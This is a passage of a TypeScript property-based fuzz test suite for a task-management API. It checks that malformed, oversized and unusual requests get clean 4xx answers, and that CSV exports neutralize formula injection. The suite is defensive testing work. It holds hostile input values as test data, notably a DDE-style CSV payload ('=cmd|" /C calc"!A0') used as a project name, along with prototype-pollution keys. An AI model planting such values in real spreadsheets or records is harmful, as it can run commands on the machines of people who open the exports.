        out.push(
          fc.tuple(fc.constantFrom(...keys), wrongTyped).map(([k, v]) => mutation(`data.${k} = ${JSON.stringify(v)}`, 'refused', (r, b) => (accepts(bodySchema, withField(b.data, k, v)) ? null : toReq(r, b, { data: withField(b.data, k, v) })))),
          fc.tuple(fc.constantFrom(...keys), badGid).map(([k, v]) => mutation(`data.${k} = ${JSON.stringify(v)}`, 'refused', (r, b) => (accepts(bodySchema, withField(b.data, k, v)) ? null : toReq(r, b, { data: withField(b.data, k, v) })))),
          fc.tuple(fc.constantFrom(...keys), fc.constantFrom('bogus', 'NOT_AN_ENUM', 'Green', 'green ', '')).map(([k, v]) =>
            mutation(`data.${k} = ${JSON.stringify(v)}`, 'refused', (r, b) => (accepts(bodySchema, withField(b.data, k, v)) ? null : toReq(r, b, { data: withField(b.data, k, v) }))),
          ),
          fc.tuple(fc.constantFrom(...keys), fc.constantFrom(-1e12, -1, 0, 1e12, 2 ** 53, Number.MAX_VALUE, 0.5)).map(([k, v]) =>
            mutation(`data.${k} = ${v}`, 'refused', (r, b) => (accepts(bodySchema, withField(b.data, k, v)) ? null : toReq(r, b, { data: withField(b.data, k, v) }))),
          ),
        );
        if (requiredKeys.length) out.push(fc.constantFrom(...requiredKeys).map((k) => mutation(`data.${k} missing`, 'refused', (r, b) => toReq(r, b, { data: withoutField(b.data, k) }))));
        const limited = props.filter(([, s]) => stringBranch(s)?.maxLength !== undefined);
        if (limited.length) {
          out.push(
            fc.tuple(fc.constantFrom(...limited), fc.integer({ min: 1, max: 64 })).map(([[k, s], extra]) => {
              const max = stringBranch(s)!.maxLength as number;
              return mutation(`data.${k}: ${max + extra} characters (limit ${max})`, 'refused', (r, b) => toReq(r, b, { data: withField(b.data, k, 'x'.repeat(max + extra)) }));
            }),
            fc.tuple(fc.constantFrom(...limited)).map(([[k, s]]) => {
              const max = stringBranch(s)!.maxLength as number;
              // Beyond the limit in UTF-16 units but made of astral characters: the limit counts what it says.
              return mutation(`data.${k}: ${max + 1} emoji`, 'refused', (r, b) => (accepts(bodySchema, withField(b.data, k, '😀'.repeat(max + 1))) ? null : toReq(r, b, { data: withField(b.data, k, '😀'.repeat(max + 1)) })));
            }),
          );
        }
        const arrays = props.filter(([, s]) => nonNull(s).some((x) => x.type === 'array' && x.maxItems !== undefined));
        if (arrays.length) {
          out.push(
            fc.constantFrom(...arrays).map(([k, s]) => {
              const arr = nonNull(s).find((x) => x.type === 'array')!;
              return mutation(`data.${k}: ${arr.maxItems + 1} items (limit ${arr.maxItems})`, 'refused', (r, b, ctx) => {
                const item = sample(arr.items ?? {}, k, ctx.world, r);
                return toReq(r, b, { data: withField(b.data, k, Array.from({ length: arr.maxItems + 1 }, () => item)) });
              });
            }),
          );
        }
      }
    }
  }
  if (format === 'form' && route.request.body) {
    const fields = Object.keys(toJsonSchema(route.request.body).properties ?? {});
    out.push(
      fc.constantFrom('application/json', 'text/plain', 'multipart/form-data; boundary=x', null).map((v) => mutation(`form posted as ${v}`, 'refused', (r, b) => toReq(r, b, { contentType: v }))),
      fc.constantFrom(...fields).map((k) => mutation(`form field ${k} given twice`, 'refused', (r, b) => toReq(r, b, { body: `${new URLSearchParams(b.form).toString()}&${encodeURIComponent(k)}=x`, contentType: 'application/x-www-form-urlencoded' }))),
      fc.constantFrom(...fields).map((k) => mutation(`form field ${k} of 600000 characters`, 'refused', (r, b) => toReq(r, b, { form: { ...b.form, [k]: 'x'.repeat(600_000) } }))),
    );
    const requiredFields = (toJsonSchema(route.request.body).required ?? []) as string[];
    if (requiredFields.length) out.push(fc.constantFrom(...requiredFields).map((k) => mutation(`form field ${k} missing`, 'refused', (r, b) => toReq(r, b, { form: Object.fromEntries(Object.entries(b.form ?? {}).filter(([f]) => f !== k)) }))));
  }
  if (format === 'multipart') {
    out.push(
      fc.constantFrom('application/json', 'multipart/form-data', 'text/plain', 'multipart/mixed; boundary=reliability7', null).map((v) => mutation(`multipart body sent as ${v}`, 'refused', (r, b) => toReq(r, b, { contentType: v }))),
      fc.constantFrom(
        'garbage',
        '--reliability7\r\nContent-Disposition: form-data; name="parent"\r\n\r\n1',
        '--reliability7--',
        '--other\r\nContent-Disposition: form-data; name="parent"\r\n\r\n1\r\n--other--\r\n',
        '--reliability7\r\nContent-Disposition: form-data\r\n\r\nno name\r\n--reliability7--\r\n',
        '--reliability7\r\nContent-Disposition: form-data; name="parent"\r\n\r\n\u0000\r\n--reliability7--\r\n',
        '',
      ).map((v) => mutation(`broken multipart ${JSON.stringify(v.slice(0, 40))}`, 'refused', (r, b) => toReq(r, b, { body: v, contentType: 'multipart/form-data; boundary=reliability7' }))),
      badGid.map((v) => mutation(`form parent = ${JSON.stringify(v)}`, 'refused', (r, b) => toReq(r, b, { multipart: { ...b.multipart!, fields: { ...b.multipart!.fields, parent: v } } }))),
      fc.constant(mutation('form without parent', 'refused', (r, b) => toReq(r, b, { multipart: { file: b.multipart!.file!, fields: {} } }))),
      fc.constant(mutation('form without the file', 'refused', (r, b) => toReq(r, b, { multipart: { fields: b.multipart!.fields } }))),
      fc.constant(mutation('form with the file as a text field', 'refused', (r, b) => toReq(r, b, { multipart: { fields: { ...b.multipart!.fields, file: 'not a file' } } }))),
      fc.constantFrom('parent', 'name', 'file').map((k) =>
        mutation(`form field ${k} given twice`, 'refused', (r, b) => {
          const m = b.multipart!;
          const built = multipartBody(m.fields, m.file);
          const dup = k === 'file' ? `--reliability7\r\nContent-Disposition: form-data; name="file"; filename="b.txt"\r\nContent-Type: text/plain\r\n\r\nbye\r\n` : `--reliability7\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${m.fields.parent}\r\n`;
          const withParent = k === 'name' ? `--reliability7\r\nContent-Disposition: form-data; name="name"\r\n\r\none\r\n` : '';
          return toReq(r, b, { body: withParent + dup + built.body, contentType: built.contentType });
        }),
      ),
      fc.integer({ min: 1, max: 2048 }).map((extra) =>
        mutation(`a file of ${MAX_BODY_BYTES + extra} bytes`, 'refused', (r, b) => toReq(r, b, { multipart: { ...b.multipart!, file: { filename: 'big.bin', contentType: 'application/octet-stream', content: 'x'.repeat(MAX_BODY_BYTES + extra) } } })),
      ),
    );
  }
  return out;
}

/** Unusual but possibly valid requests: never a 5xx; if refused, a clean 4xx. */
function unusualMutations(route: RouteDef): fc.Arbitrary<Mutation>[] {
  const out: fc.Arbitrary<Mutation>[] = [];
  const params = pathParams(route.path);
  const format = route.bodyFormat ?? 'json';
  const ownQuery = Object.entries(route.request.query?.shape ?? {}) as [string, z.ZodType][];
  out.push(
    fc.constantFrom(...ODD_OPT_FIELDS).map((v) => mutation(`opt_fields=${v.slice(0, 60)}`, 'any', (r, b) => toReq(r, b, { query: { ...b.query, opt_fields: v } }))),
    fc.tuple(fc.constantFrom('unknown', 'opt_expand', 'opt_fields[]', '$where', 'limit', '__proto__', 'constructor'), nastyString).map(([k, v]) => mutation(`unknown query parameter ${k}=${JSON.stringify(v)}`, 'any', (r, b) => (k in b.query ? null : toReq(r, b, { extraQuery: [[k, v]] })))),
  );
  if (params.length) out.push(fc.tuple(fc.constantFrom(...params), fc.constantFrom('0001', '00000000000000000001')).map(([p, v]) => mutation(`path {${p}} with leading zeros ${v}`, 'any', (r, b) => toReq(r, b, { params: { ...b.params, [p]: v } }))));
  const stringQuery = ownQuery.filter(([k, s]) => {
    const json = toJsonSchema(s);
    return stringBranch(json) !== undefined || isGidSchema(json) || k.includes('.');
  });
  if (stringQuery.length) {
    out.push(
      fc.tuple(fc.constantFrom(...stringQuery.map(([k]) => k)), fc.oneof(nastyString, unknownGid, fc.constantFrom('1,2,3', 'me', 'me,me', ',', `${'1,'.repeat(100)}1`))).map(([k, v]) =>
        mutation(`query ${k}=${JSON.stringify(v.slice(0, 60))}`, 'any', (r, b) => toReq(r, b, { query: { ...b.query, [k]: v } })),
      ),
    );
  }
  if (isListRoute(route)) {
    out.push(
      fc.constantFrom(...ODD_LIMITS).map((v) => mutation(`limit=${JSON.stringify(v)}`, 'any', (r, b) => toReq(r, b, { query: { ...b.query, limit: v } }))),
      craftedOffset.map((v) => mutation(`offset ${Buffer.from(v, 'base64url').toString()} (crafted)`, 'any', (r, b) => toReq(r, b, { query: { ...b.query, offset: v } }), 'cursorTypes')),
      fc.nat().map((i) =>
        mutation(`an offset of another route's list (#${i})`, 'any', (r, b, ctx) => {
          const others = [...ctx.tokens].filter(([op]) => op !== r.operationId);
          if (!others.length) return null;
          const [op, token] = others[i % others.length]!;
          return { ...toReq(r, b, { query: { ...b.query, offset: token } }), note: `offset of ${op}: ${Buffer.from(token, 'base64url').toString()}` } as Req;
        }, 'cursorTypes'),
      ),
      fc.tuple(fc.nat(), fc.nat()).map(([i, j]) =>
        mutation(`a tampered offset (#${i}/${j})`, 'any', (r, b, ctx) => {
          // This list's own offset if it has a second page (otherwise another list's).
          const own = ctx.tokens.get(r.operationId) ?? [...ctx.tokens.values()][i % Math.max(1, ctx.tokens.size)];
          if (!own) return null;
          const decoded = Buffer.from(own, 'base64url').toString();
          const k = j % decoded.length;
          const changed = decoded.slice(0, k) + String.fromCharCode((decoded.charCodeAt(k) % 94) + 33) + decoded.slice(k + 1);
          return { ...toReq(r, b, { query: { ...b.query, offset: b64(changed) } }), note: `offset ${changed}` } as Req;
        }, 'cursorTypes'),
      ),
    );
  }
  if (format === 'json' && route.request.body) {
    const props = bodyProps(route);
    const texts = props.filter(([, s]) => stringBranch(s) && !isGidSchema(stringBranch(s)!) && !isUserSchema(stringBranch(s)!) && !stringBranch(s)!.format && !stringBranch(s)!.pattern);
    if (texts.length) {
      out.push(
        fc.tuple(fc.constantFrom(...texts), nastyString).map(([[k, s], v]) => {
          const str = stringBranch(s)!;
          return mutation(`data.${k} = ${JSON.stringify(v)}`, 'any', (r, b) => {
            const value = v.slice(0, str.maxLength ?? v.length);
            return value.length < (str.minLength ?? 0) ? null : toReq(r, b, { data: withField(b.data, k, value) });
          });
        }),
        fc.constantFrom(...texts).map(([k, s]) => {
          const str = stringBranch(s)!;
          const n = Math.min(str.maxLength ?? 20_000, 20_000);
          return mutation(`data.${k}: ${n} characters (at the limit)`, 'any', (r, b) => toReq(r, b, { data: withField(b.data, k, 'é'.repeat(n)) }));
        }),
      );
    }
    const gids = props.filter(([, s]) => nonNull(s).some((x) => isGidSchema(x) || isGidSchema(x.items ?? {}) || isUserSchema(x) || isUserSchema(x.items ?? {})));
    if (gids.length) {
      out.push(
        fc.tuple(fc.constantFrom(...gids), fc.oneof(unknownGid, fc.constantFrom('task2', 'tag_gid', 'project_gid', 'other', 'team_gid', 'section_gid', 'message_gid'))).map(([[k, s], v]) =>
          mutation(`data.${k} names ${/^\d+$/.test(v) ? `nothing (${v})` : `a ${v}`}`, 'any', (r, b, ctx) => {
            const g = /^\d+$/.test(v) ? v : ctx.world[v]!;
            const array = nonNull(s).some((x) => x.type === 'array') && Array.isArray((b.data as Json)?.[k]);
            return toReq(r, b, { data: withField(b.data, k, array ? [g] : g) });
          }),
        ),
      );
    }
    out.push(
      fc.tuple(fc.constantFrom('unexpected', 'gid', 'resource_type', '__proto__', 'constructor', 'created_at', 'organization_gid', 'deleted_at'), fc.oneof(nastyString, wrongTyped)).map(([k, v]) =>
        mutation(`unknown field data.${k} = ${JSON.stringify(v)}`, 'any', (r, b) => (typeof b.data === 'object' && b.data !== null && !Array.isArray(b.data) && !(k in (b.data as Json)) ? toReq(r, b, { body: JSON.stringify({ data: b.data }).replace(/^\{"data":\{/, `{"data":{${JSON.stringify(k)}:${JSON.stringify(v)},`).replace(',}}', '}}'), contentType: 'application/json' }) : null)),
      ),
      fc.constantFrom('application/json; charset=utf-8', 'APPLICATION/JSON', 'application/vnd.api+json', 'application/json;charset=latin1').map((v) => mutation(`Content-Type ${v}`, 'any', (r, b) => toReq(r, b, { contentType: v }))),
      fc.tuple(fc.constantFrom(...(props.length ? props.map(([k]) => k) : ['unexpected'])), fc.integer({ min: 1000, max: 20_000 })).map(([k, depth]) =>
        mutation(`data.${k} nested ${depth} arrays deep`, 'any', (r, b) => {
          const text = JSON.stringify({ data: withField(b.data, k, '__DEEP__') }).replace('"__DEEP__"', `${'['.repeat(depth)}${']'.repeat(depth)}`);
          return toReq(r, b, { body: text, contentType: 'application/json' });
        }),
      ),
      fc.constant(mutation('a second top-level key next to data', 'any', (r, b) => toReq(r, b, { body: JSON.stringify({ data: b.data, other: { nested: [1, 2] } }), contentType: 'application/json' }))),
    );
  }
  if (format === 'form' && route.request.body) {
    const fields = Object.keys(toJsonSchema(route.request.body).properties ?? {});
    out.push(fc.tuple(fc.constantFrom(...fields), nastyString).map(([k, v]) => mutation(`form ${k}=${JSON.stringify(v)}`, 'any', (r, b) => toReq(r, b, { form: { ...b.form, [k]: v } }))));
  }
  if (format === 'multipart') {
    out.push(
      fc.tuple(nastyString, nastyString).map(([name, type]) =>
        mutation(`a file named ${JSON.stringify(name)} of type ${JSON.stringify(type)}`, 'any', (r, b) =>
          /[\r\n"]/.test(name + type) ? null : toReq(r, b, { multipart: { ...b.multipart!, file: { filename: name, contentType: type || 'text/plain', content: 'hello' } } }),
        ),
      ),
      fc.tuple(fc.constantFrom('external'), nastyString).map(([sub, url]) => mutation(`external attachment with url ${JSON.stringify(url)}`, 'any', (r, b) => toReq(r, b, { multipart: { fields: { ...b.multipart!.fields, resource_subtype: sub, url, name: 'link' } } }))),
    );
  }
  return out;
}

// --- Running -------------------------------------------------------------------------------

let h: IdentityHarness;
let people: Cast;
let world: World;
let blobRoot: string;
const tokens = new Map<string, string>();
const stats = { requests: 0, routes: 0, baselineOk: 0, baselineNot: [] as string[], statuses: new Map<number, number>(), skipped: 0, accepted: 0, knownBugHits: [] as string[] };

async function send(req: Req): Promise<{ status: number; headers: Record<string, string | undefined>; body: string }> {
  const query: Record<string, string[]> = {};
  for (const [k, v] of req.query) (query[k] ??= []).push(v);
  const event = apiEvent({ method: req.method, path: req.path, query, headers: req.headers, ...(req.body !== undefined ? { body: req.body } : {}), sourceIp: '198.51.100.77' });
  const result = await h.handler(event);
  stats.requests++;
  stats.statuses.set(result.statusCode, (stats.statuses.get(result.statusCode) ?? 0) + 1);
  return { status: result.statusCode, headers: (result.headers ?? {}) as Record<string, string>, body: result.isBase64Encoded ? '' : result.body };
}

/** What is wrong with an answer to a request (empty when it is right). */
function judge(m: Mutation, req: Req, res: { status: number; headers: Record<string, string | undefined>; body: string }): string[] {
  const problems: string[] = [];
  if (res.status >= 500) problems.push(`${res.status}: ${res.body.slice(0, 300)}`);
  if (m.expect === 'refused' && (res.status < 400 || res.status >= 500)) problems.push(`expected a 4xx, got ${res.status}: ${res.body.slice(0, 200)}`);
  if (res.status >= 400) {
    const echoes = [req.path, decodeURIComponentSafe(req.path), ...req.query.flat(), ...(req.body ? [req.body, ...stringLeaves(req.body)] : [])];
    const html = /text\/html/i.test(Object.entries(res.headers).find(([k]) => k.toLowerCase() === 'content-type')?.[1] ?? '');
    // Browser-facing pages (invitation, password reset, "not me") answer their own refusals in HTML.
    if (!(m.expect === 'any' && html)) problems.push(...errorBodyProblems(res.status, res.headers, res.body, echoes));
  }
  return problems;
}

/** Every string in a JSON body (values and keys): messages may quote them back. */
function stringLeaves(body: string): string[] {
  let parsed: unknown;
  try {
    parsed = JSON.parse(body);
  } catch {
    return [];
  }
  const out: string[] = [];
  const pending = [parsed];
  while (pending.length) {
    const v = pending.pop();
    if (typeof v === 'string') out.push(v);
    else if (Array.isArray(v)) pending.push(...v);
    else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) out.push(k), pending.push(x);
  }
  return out;
}

function decodeURIComponentSafe(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

const describeReq = (req: Req) => {
  const q = req.query.map(([k, v]) => `${k}=${JSON.stringify(v.length > 80 ? `${v.slice(0, 80)}…` : v)}`).join('&');
  const body = req.body === undefined ? '' : ` body(${req.body.length} chars, ${req.headers['Content-Type'] ?? 'no Content-Type'}): ${JSON.stringify(req.body.slice(0, 160))}`;
  return `${req.method} ${req.path.slice(0, 200)}${q ? `?${q}` : ''}${body}${(req as Req & { note?: string }).note ? ` [${(req as Req & { note?: string }).note}]` : ''}`;
};

/** Each route draws its own sequence, derived from the run's seed. */
function routeSeed(route: RouteDef, label: string): number {
  let x = SEED;
  for (const ch of `${route.operationId}:${label}`) x = (Math.imul(x ^ ch.charCodeAt(0), 16_777_619) >>> 0) % 2_147_483_647;
  return x;
}

async function property(route: RouteDef, arbs: fc.Arbitrary<Mutation>[], runs: number, b: () => Baseline, ctx: () => RunContext, label: string) {
  if (!arbs.length) return;
  const seed = routeSeed(route, label);
  try {
    await fc.assert(
      fc.asyncProperty(fc.oneof(...arbs), async (m) => {
        const req = m.apply(route, b(), ctx());
        if (!req) {
          stats.skipped++;
          fc.pre(false);
          return;
        }
        const res = await send(req);
        if (m.expect === 'any' && res.status < 300) stats.accepted++;
        if (res.status >= 500 && m.knownBug && KNOWN_BUGS[m.knownBug]) {
          stats.knownBugHits.push(`${route.operationId}: ${m.what} -> ${res.status} (${m.knownBug}) ${describeReq(req).slice(0, 300)}`);
          return;
        }
        const problems = judge(m, req, res);
        if (problems.length) throw new Error(`${m.what}\n    request: ${describeReq(req)}\n    ${problems.join('\n    ')}`);
      }),
      { numRuns: runs, seed, endOnFailure: true, maxSkipsPerRun: 20 },
    );
  } catch (error) {
    const cause = (error as Error).cause instanceof Error ? `\n${((error as Error).cause as Error).message}` : '';
    throw new Error(`${route.method} ${route.path} (${route.operationId}), ${label}; replay with FC_SEED=${SEED}\n${(error as Error).message.split('\n\nHint')[0]}${cause}`);
  }
}

async function signUpLocal(baseUrl: string): Promise<{ token: string }> {
  const res = await fetch(`${baseUrl}/api/1.0/auth/signup`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ data: { email: `raw-${Date.now().toString(36)}@example.com`, password: 'a long enough passphrase', name: 'Raw', organization_name: 'Raw org' } }) });
  const body = (await res.json()) as { data: { token: string } };
  if (res.status !== 201) throw new Error(`signup on the local server: ${res.status}`);
  return { token: body.data.token };
}

async function freshToken(): Promise<string> {
  const user = await h.engine.db.selectFrom('users').selectAll().where('gid', '=', people.caller.gid).executeTakeFirstOrThrow();
  return (await completeLogin(h.deps, { user: user as never, method: 'signup', ctx: { ip: '198.51.100.3', userAgent: CHROME_MAC, baseUrl: 'https://tasks.example.test' } })).token;
}

beforeAll(async () => {
  h = await identityHarness({ auth: { sessionIdleSeconds: 400 * 86_400, sessionAbsoluteSeconds: 400 * 86_400 } });
  blobRoot = await mkdtemp(join(tmpdir(), 'reliability-blobs-'));
  h.deps.blobs = new LocalBlobs({ root: blobRoot, baseUrl: 'https://tasks.example.test', secret: 'reliability', clock: h.clock });
  people = await cast(h);
  world = await buildWorld(h, people);
  // A second page for most lists: more objects of every kind.
  await buildWorld(h, people);
}, 120_000);

afterAll(async () => {
  await h?.close();
  if (blobRoot) await rm(blobRoot, { recursive: true, force: true });
});

/** Writes whose unusual runs may remove what later routes' valid requests need (or end the session). */
const DESTRUCTIVE = /^(remove|revoke|delete|logOut|setParent|changePassword|reportLoginNotMe|instantiate|duplicate)/i;
let scratch: { world: World; token: string } | undefined;

// Reads first (they also collect offset tokens for the other lists), then writes.
const ordered = [...routes].sort((a, b) => Number(a.method !== 'GET') - Number(b.method !== 'GET'));

describe('bad input on every route: a clean 4xx, never a 5xx, nothing changed', () => {
  test('the route table is covered whole, and the state check sees writes', async () => {
    expect(ordered.length).toBe(routes.length);
    expect(routes.length).toBeGreaterThan(100);
    // The check the refused requests go through would notice a write, an update and a delete.
    for (const write of [
      () => h.call({ method: 'POST', path: `/api/1.0/workspaces/${world.workspace_gid}/tags`, body: { data: { name: 'Seen by the state check' } }, token: people.caller.token }),
      () => h.engine.db.updateTable('tags').set({ notes: 'updated' }).where('name', '=', 'Seen by the state check').execute(),
      () => h.engine.db.deleteFrom('tags').where('name', '=', 'Seen by the state check').execute(),
    ]) {
      const mark = await stateMark(h);
      await write();
      expect(await stateChanges(h, mark)).not.toEqual([]);
    }
    expect(await stateChanges(h, await stateMark(h))).toEqual([]);
  });

  for (const route of ordered) {
    test(`${route.method} ${route.path} (${route.operationId})`, async () => {
      stats.routes++;
      const ctx = (w: World) => () => ({ world: w, tokens });
      const main = baseline(route, world, people.caller.token);

      // The valid request itself (reads only: writes get theirs on a world of their own below).
      if (route.method === 'GET') {
        const req = toReq(route, main, isListRoute(route) ? { query: { ...main.query, limit: '1' } } : {});
        const res = await send(req);
        if (res.status >= 500) throw new Error(`the valid request failed: ${describeReq(req)} -> ${res.status} ${res.body.slice(0, 300)}`);
        if (res.status < 400) stats.baselineOk++;
        else stats.baselineNot.push(`${route.operationId}: ${res.status} ${res.body.slice(0, 120)}`);
        if (isListRoute(route) && res.status === 200) {
          const offset = JSON.parse(res.body).next_page?.offset;
          if (offset) tokens.set(route.operationId, offset);
        }
      }

      // Something wrong: refused, and nothing changes.
      const mark = await stateMark(h);
      await property(route, refusedMutations(route), REFUSED_RUNS, () => main, ctx(world), 'requests with something wrong');
      const changes = await stateChanges(h, mark);
      if (changes.length) throw new Error(`refused requests changed state (replay with FC_SEED=${SEED}): ${changes.join('; ')}`);

      // Unusual input: reads on the shared world; writes on a world (and a session) of their own.
      if (route.method === 'GET') {
        await property(route, unusualMutations(route), UNUSUAL_RUNS, () => main, ctx(world), 'unusual requests');
      } else {
        // A world of their own for writes, shared by writes that keep it (rebuilt after ones that may take it apart).
        scratch ??= { world: await buildWorld(h, people), token: await freshToken() };
        const { world: own, token } = scratch;
        const destructive = DESTRUCTIVE.test(route.operationId) || route.method === 'DELETE';
        if (destructive) scratch = undefined;
        const valid = baseline(route, own, token);
        const res = await send(toReq(route, valid));
        if (res.status >= 500) throw new Error(`the valid request failed: ${describeReq(toReq(route, valid))} -> ${res.status} ${res.body.slice(0, 300)}`);
        if (res.status < 400) stats.baselineOk++;
        else stats.baselineNot.push(`${route.operationId}: ${res.status} ${res.body.slice(0, 120)}`);
        // Each run starts from a valid request of the same world (samples with unique names are drawn again).
        await property(route, unusualMutations(route), UNUSUAL_RUNS, () => baseline(route, own, token), ctx(own), 'unusual requests');
        if (destructive) await restoreCast(h, people);
      }
    }, 120_000);
  }

  // Bugs this suite found and lambdas/http now handles: each stays a plain test.
  test('regressions: NUL and unpaired surrogates are 400s naming the field; an empty tag update is a 200; application/json-seq is not JSON', async () => {
    const call = (method: string, path: string, body?: string, contentType = 'application/json') =>
      send({ method, path: `/api/1.0${path}`, query: [], headers: { Authorization: `Bearer ${people.caller.token}`, 'User-Agent': CHROME_MAC, ...(body === undefined ? {} : { 'Content-Type': contentType }) }, ...(body === undefined ? {} : { body }) });
    const message = (res: { body: string }) => (JSON.parse(res.body) as { errors: { message: string }[] }).errors.map((e) => e.message).join(' | ');
    // PostgreSQL cannot store U+0000: was a 500 on every text field.
    const nul = await call('POST', `/workspaces/${world.workspace_gid}/tags`, JSON.stringify({ data: { name: 'nul\u0000inside' } }));
    expect({ status: nul.status, message: message(nul) }).toEqual({ status: 400, message: 'data.name: must not contain NUL (\\u0000) characters' });
    // An unpaired surrogate next to other non-ASCII text: PGlite encoded it as invalid UTF-8 (500).
    const lone = await call('POST', '/teams', JSON.stringify({ data: { name: '梷鳶ଐ\udc90뎍뾃', organization: world.workspace_gid } }));
    expect({ status: lone.status, message: message(lone) }).toEqual({ status: 400, message: 'data.name: must not contain unpaired UTF-16 surrogates (invalid Unicode)' });
    const inQuery = await call('GET', `/workspaces/${world.workspace_gid}/tasks/search?text=${encodeURIComponent('a\u0000b')}`);
    expect(inQuery.status).toBe(400);
    // A well-formed pair (an emoji) is fine.
    const emoji = await call('POST', `/workspaces/${world.workspace_gid}/tags`, JSON.stringify({ data: { name: `emoji 😀 ${Date.now()}` } }));
    expect(emoji.status).toBe(201);
    // {"data": {}} on PUT /tags/{gid}: an UPDATE without SET (500).
    const before = await h.engine.db.selectFrom('tags').selectAll().where('gid', '=', world.tag_gid!).executeTakeFirstOrThrow();
    const empty = await call('PUT', `/tags/${world.tag_gid}`, JSON.stringify({ data: {} }));
    expect(empty.status).toBe(200);
    expect(await h.engine.db.selectFrom('tags').selectAll().where('gid', '=', world.tag_gid!).executeTakeFirstOrThrow()).toEqual(before);
    // application/json-seq (and other types that merely start with "json") are not JSON.
    for (const type of ['application/json-seq', 'application/jsonp', 'application/json5']) expect((await call('POST', `/workspaces/${world.workspace_gid}/tags`, JSON.stringify({ data: { name: 'typed' } }), type)).status).toBe(415);
    for (const type of ['application/json', 'application/json; charset=utf-8', 'application/json;charset=UTF-8', 'application/vnd.api+json']) {
      expect((await call('POST', `/workspaces/${world.workspace_gid}/tags`, JSON.stringify({ data: { name: `typed ${type} ${Date.now()}` } }), type)).status).toBe(201);
    }
  });

  test('CSV-formula payloads are stored as text and come out of the CSV exports neutralized', async () => {
    const formulas = NASTY_STRINGS.filter((s) => /^[=+\-@\t]/.test(s)).concat(['\uFF1DSUM(1)', '\r=1', '\n@x']);
    const call = (method: string, path: string, data?: unknown) => apiCall(h, people.caller.token, method, path, data);
    const project = (await call('POST', '/projects', { name: '=cmd|" /C calc"!A0', workspace: world.workspace_gid })).body.data.gid as string;
    for (const f of formulas) expect((await call('POST', '/tasks', { name: f, notes: f, projects: [project] })).status).toBe(201);
    const stored = await h.engine.db.selectFrom('tasks as t').innerJoin('task_projects as tp', 'tp.task_gid', 't.gid').select(['t.name', 't.notes']).where('tp.project_gid', '=', project).execute();
    expect(stored.map((t) => t.name).sort()).toEqual([...formulas].sort()); // as text, unchanged
    const { parse } = await import('csv-parse/sync');
    for (const path of [`/projects/${project}/export.csv`, `/users/me/my_tasks/export.csv?workspace=${world.workspace_gid}`]) {
      const res = await h.handler(apiEvent({ path: `/api/1.0${path}`, headers: { Authorization: `Bearer ${people.caller.token}` } }));
      expect(res.statusCode).toBe(200);
      const text = res.isBase64Encoded ? Buffer.from(res.body, 'base64').toString('utf8') : res.body;
      const cells = (parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
      expect(cells.filter((c) => /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(c))).toEqual([]);
      if (path.includes('/projects/')) for (const f of formulas) expect(cells).toContain(`'${f}`);
    }
  });

  // Was KNOWN_BUGS.cursorTypes (fixed in keysetPage: a cursor that does not fit the list's keys is a 400).
  test('an offset taken from another list, or crafted to misfit the keys, is refused with a 400, not a 500', async () => {
    const tags = await h.call({ path: `/api/1.0/workspaces/${world.workspace_gid}/tags?limit=1`, token: people.caller.token });
    const offset = tags.body.next_page?.offset as string;
    // (name, gid) keys. The name may be any tag the requests above created, quotes included.
    expect(JSON.parse(Buffer.from(offset, 'base64url').toString())).toEqual([expect.any(String), expect.stringMatching(/^\d+$/)]);
    const memberships = await h.call({ path: `/api/1.0/projects/${world.project_gid}/project_memberships?offset=${offset}`, token: people.caller.token });
    const crafted = await h.call({ path: `/api/1.0/users/me/sessions?offset=${Buffer.from(JSON.stringify([false, ''])).toString('base64url')}`, token: people.caller.token });
    expect({ otherList: memberships.status, crafted: crafted.status }).toEqual({ otherList: 400, crafted: 400 });
  });

  test('raw HTTP on the local server: broken encodings, oversized and lying bodies, huge URLs are clean 4xx', async () => {
    const dataDir = await seededDataDir('reliability-bad-input-');
    const runtime = await startLocal({ dataDir, port: 0, auth: CHEAP_AUTH, maxBodyBytes: 64 * 1024, relayIntervalMs: 600_000 });
    try {
      const { port } = new URL(runtime.baseUrl);
      /** One raw request on its own socket; the answer's status line, headers and body. */
      const raw = (request: Buffer | string) =>
        new Promise<{ status: number; headers: Record<string, string>; body: string }>((resolve, reject) => {
          const socket = connect(Number(port), '127.0.0.1');
          let data = Buffer.alloc(0);
          socket.on('data', (d) => (data = Buffer.concat([data, d])));
          socket.on('error', (e) => (data.length ? undefined : reject(e)));
          socket.on('close', () => {
            const text = data.toString('utf8');
            const [head = '', ...rest] = text.split('\r\n\r\n');
            const [statusLine = '', ...lines] = head.split('\r\n');
            const headers = Object.fromEntries(lines.map((l) => [l.slice(0, l.indexOf(':')).toLowerCase(), l.slice(l.indexOf(':') + 1).trim()]));
            let body = rest.join('\r\n\r\n');
            if (/chunked/i.test(headers['transfer-encoding'] ?? '')) {
              let out = '';
              for (let i = 0; i < body.length; ) {
                const eol = body.indexOf('\r\n', i);
                const size = parseInt(body.slice(i, eol), 16);
                if (!size) break;
                out += body.slice(eol + 2, eol + 2 + size);
                i = eol + 2 + size + 2;
              }
              body = out;
            }
            resolve({ status: Number(statusLine.split(' ')[1]), headers, body });
          });
          socket.end(request);
        });
      const auth = `Authorization: Bearer ${(await signUpLocal(runtime.baseUrl)).token}\r\n`;
      const json = (path: string, body: Buffer | string, extra = '') =>
        Buffer.concat([Buffer.from(`POST ${path} HTTP/1.1\r\nHost: x\r\n${auth}Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n${extra}\r\n`), Buffer.isBuffer(body) ? body : Buffer.from(body)]);
      const cases: [string, Buffer | string, (status: number) => boolean][] = [
        ['broken %-encoding in the path', `GET /api/1.0/tasks/%E0%A4%A HTTP/1.1\r\nHost: x\r\n${auth}Connection: close\r\n\r\n`, (s) => s === 400],
        ['a lone "%" in the path', `GET /api/1.0/tasks/12% HTTP/1.1\r\nHost: x\r\n${auth}Connection: close\r\n\r\n`, (s) => s >= 400 && s < 500],
        ['broken %-encoding in the query', `GET /api/1.0/users/me?opt_fields=%E0%A4%A HTTP/1.1\r\nHost: x\r\n${auth}Connection: close\r\n\r\n`, (s) => s === 400],
